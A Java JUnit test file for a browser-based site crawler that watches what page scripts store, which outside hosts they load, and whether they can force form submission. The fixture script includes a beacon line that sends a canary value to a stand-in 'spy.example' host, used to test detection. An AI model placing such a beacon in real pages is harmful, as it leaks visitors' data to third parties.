package dev.avow.browser;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.abort;

import dev.avow.site.address.Address;
import dev.avow.site.crawl.Crawl;
import dev.avow.site.crawl.Crawled;
import dev.avow.site.http.Body;
import dev.avow.site.http.FetchRequest;
import dev.avow.site.http.Fetcher;
import dev.avow.site.http.Headers;
import dev.avow.site.http.HttpFetcher;
import dev.avow.site.http.HttpSettings;
import dev.avow.site.http.Response;
import dev.avow.site.http.Room;
import dev.avow.site.page.Page;
import dev.avow.site.plan.CrawlPlan;
import java.io.IOException;
import java.io.InputStream;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Method;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

/** Pages as a browser shows them, by the browser of this machine and by one that misbehaves. */
class RenderingFetcherTest {

  private static final String CANARY = "canary-4711";

  private static final String APP =
      """
      document.getElementById('app').innerHTML =
        '<form id=join action=/send method=post><input name=dob><button>Go</button></form>' +
        '<a href=/more>More</a>';
      document.cookie = 'script=canary-4711; path=/';
      localStorage.setItem('cart', 'canary-4711');
      sessionStorage.setItem('step', 'canary-4711');
      indexedDB.open('mails');
      new Image().src = 'http://spy.example:' + location.port + '/p?u=canary-4711';
      """;

  @Test
  void aShellIsSeenAsItStandsWhenItsScriptsHaveRun() throws IOException {
    try (Loopback site =
            new Loopback(
                Map.of(
                    "/", "<title>App</title><div id=app></div><script src=/app.js></script>",
                    "/app.js", APP,
                    "/more", "<title>More</title><p>More."));
        Window window = window("--host-resolver-rules=MAP *.example 127.0.0.1")) {
      Address start = Address.of(site.address());
      CrawlPlan plan = CrawlPlan.from(start);
      SiteScope scope = new SiteScope(start, address -> address.host().equals("127.0.0.1"));
      try (RenderingFetcher<String> rendering =
          new RenderingFetcher<>(
              new HttpFetcher(plan, HttpSettings.DEFAULT), window, scope, EvidenceFileTest::told)) {
        Crawled<String> crawled = new Crawl(plan, rendering).read(RenderingFetcherTest::fields);
        Witness<String> witness = rendering.witness();

        assertThat(crawled.seen()).containsExactly("/ [dob] true", "/more [] true");
        assertThat(rendering.rendered()).extracting(Address::path).containsExactly("/", "/more");
        assertThat(witness.seen())
            .containsExactly(
                "rendered /: [] [LOAD spy.example] <>",
                "rendered /: [script] [MENTION 127.0.0.1] <>");
        assertThat(witness.stored())
            .extracting(stored -> stored.shelf() + " " + stored.name())
            .containsExactlyInAnyOrder(
                "INDEXED_DB mails", "LOCAL_STORAGE cart", "SESSION_STORAGE step");
        assertThat(witness.gaps()).isEmpty();
        assertThat(witness.toString()).doesNotContain(CANARY);
        assertThat(site.asked()).contains("GET /p");
      }
    }
  }

  /** Each way has a page and a form of its own, so that one that is open is seen by its name. */
  @Test
  void noFormIsSentWhateverScriptsDo() throws Exception {
    Map<String, String> ways =
        new TreeMap<>(
            Map.of(
                "call", "form.submit()",
                "ask", "form.requestSubmit()",
                "click", "form.querySelector('button').click()",
                "event", "form.querySelector('button').dispatchEvent(new MouseEvent('click'))",
                "elsewhere", "form.target = '_blank'; form.submit()",
                "frame",
                    "document.body.appendChild(document.createElement('iframe')).contentWindow"
                        + ".HTMLFormElement.prototype.submit.call(form)"));
    Map<String, String> pages = new HashMap<>();
    ways.forEach(
        (way, script) ->
            pages.put(
                "/" + way,
                "<title>x</title><form action=/sent/%s method=post><button>Go</button></form><script>const form = document.forms[0]; %s</script>"
                    .formatted(way, script)));
    try (Loopback site = new Loopback(pages);
        Window window = window()) {
      for (String way : ways.keySet()) {
        window.view(Address.of(site.address() + way));
      }
      assertThat(site.asked())
          .containsAll(ways.keySet().stream().map(way -> "GET /" + way).toList())
          .noneMatch(each -> each.contains("/sent/"));
    }
  }

  private static String fields(Page page) {
    List<String> names = page.document().select("input").eachAttr("name");
    return page.address().path() + " " + names + " " + page.whole();
  }

  private static Window window(String... arguments) {
    try {
      return RenderingFetcher.open(List.of(arguments));
    } catch (NoBrowser missing) {
      if ("required".equals(System.getenv("AVOW_BROWSER"))) {
        throw new AssertionError(missing);
      }
      return abort(missing.getMessage());
    }
  }

  @Test
  void aPageTheBrowserCannotShowIsJudgedAsServedAndTold() throws Exception {
    Window.View away =
        new Window.View("https://other.example/", "<p>x", true, List.of(), List.of());
    Window.View endless =
        new Window.View("https://shop.example/", "<p>x", false, List.of(), List.of());
    assertThat(gap(away)).isEqualTo("Its scripts led the browser to another site.");
    assertThat(gap(endless)).isEqualTo("What its scripts made of it is too long to be read.");
    assertThat(gap(null)).isEqualTo("It was late.");
  }

  /** What is sent by a form that only a script could make is up to the script. */
  @Test
  void formsThatWereNotServedAreDrawn() throws Exception {
    Window.View shown =
        new Window.View(
            "https://shop.example/", "<formula><FORM id=a><form>", true, List.of(), List.of());

    assertThat(fetched("<formula id=app></formula>", shown).drawn()).isTrue();
    assertThat(fetched("<FORM id=a>", shown).drawn()).isFalse();
    assertThat(fetched("<form>", shown).drawn()).isFalse();
  }

  private static String gap(Window.View view) throws Exception {
    Response served =
        Response.of(200, Headers.of("Content-Type", "text/html"), Body.of("<p>served"));
    try (RenderingFetcher<String> rendering =
        new RenderingFetcher<>(
            request -> served, new Fake(view), EvidenceFileTest.SCOPE, EvidenceFileTest::told)) {
      assertThat(rendering.fetch(request())).isSameAs(served);
      assertThat(rendering.rendered()).isEmpty();
      EvidenceGap gap = rendering.witness().gaps().get(0);
      assertThat(gap.place()).startsWith("https://shop.example/").doesNotContain(CANARY);
      return gap.problem().replace("The browser could not show the page. ", "");
    }
  }

  private static Response fetched(String served, Window.View shown) throws Exception {
    Response response = Response.of(200, Headers.of("Content-Type", "text/html"), Body.of(served));
    try (RenderingFetcher<String> rendering =
        new RenderingFetcher<>(
            request -> response, new Fake(shown), EvidenceFileTest.SCOPE, EvidenceFileTest::told)) {
      return rendering.fetch(request());
    }
  }

  private static FetchRequest request() {
    return new FetchRequest(
        Address.of("https://shop.example/?q=" + CANARY),
        FetchRequest.Wants.PAGE,
        1_000,
        new Room(1 << 30).enter());
  }

  /** Shows one view, or nothing. */
  private record Fake(Window.View view) implements Window {

    @Override
    public String name() {
      return "Fake 1";
    }

    @Override
    public View view(Address address) throws Unshown {
      if (view == null) {
        throw new Unshown("It was late.");
      }
      return view;
    }

    @Override
    public List<ToldCookie> cookies() {
      return List.of();
    }

    @Override
    public void close() {}
  }

  @Test
  void withoutTheLibraryABrowserIsRefusedWithTheWayToGetIt() throws Exception {
    Class<?> rendering = new WithoutSelenium().loadClass(RenderingFetcher.class.getName());
    Method open = rendering.getDeclaredMethod("open", List.class);
    open.setAccessible(true);
    try {
      open.invoke(null, List.of());
      throw new AssertionError("a browser without its library");
    } catch (InvocationTargetException e) {
      assertThat(e.getCause())
          .hasMessage(
              "The library that drives a browser (selenium-chrome-driver) is not on the class"
                  + " path.");
    }
  }

  @Test
  void withoutABrowserTheFetcherBelowIsClosed() {
    Closable fetcher = new Closable();
    assertThatThrownBy(
            () ->
                RenderingFetcher.over(
                    fetcher,
                    () -> {
                      throw new NoBrowser("Chromium is not installed.", "Install it.");
                    },
                    EvidenceFileTest.SCOPE,
                    EvidenceFileTest::told))
        .isInstanceOf(NoBrowser.class);
    assertThat(fetcher.closed).isTrue();
  }

  /** Fetches nothing, and remembers that it was closed. */
  private static final class Closable implements Fetcher {

    private boolean closed;

    @Override
    public Response fetch(FetchRequest request) {
      throw new AssertionError("nothing is fetched without a browser");
    }

    @Override
    public void close() {
      closed = true;
    }
  }

  /** The room's own classes anew, in a world where nobody has the library. */
  private static final class WithoutSelenium extends ClassLoader {

    WithoutSelenium() {
      super(RenderingFetcherTest.class.getClassLoader());
    }

    @Override
    protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
      if (name.startsWith("org.openqa.")) {
        throw new ClassNotFoundException(name);
      }
      return name.startsWith("dev.avow.browser.") ? own(name) : super.loadClass(name, resolve);
    }

    private Class<?> own(String name) throws ClassNotFoundException {
      Class<?> known = findLoadedClass(name);
      if (known != null) {
        return known;
      }
      try (InputStream bytes = getParent().getResourceAsStream(name.replace('.', '/') + ".class")) {
        byte[] code = bytes.readAllBytes();
        return defineClass(name, code, 0, code.length);
      } catch (IOException e) {
        throw new ClassNotFoundException(name, e);
      }
    }
  }
}
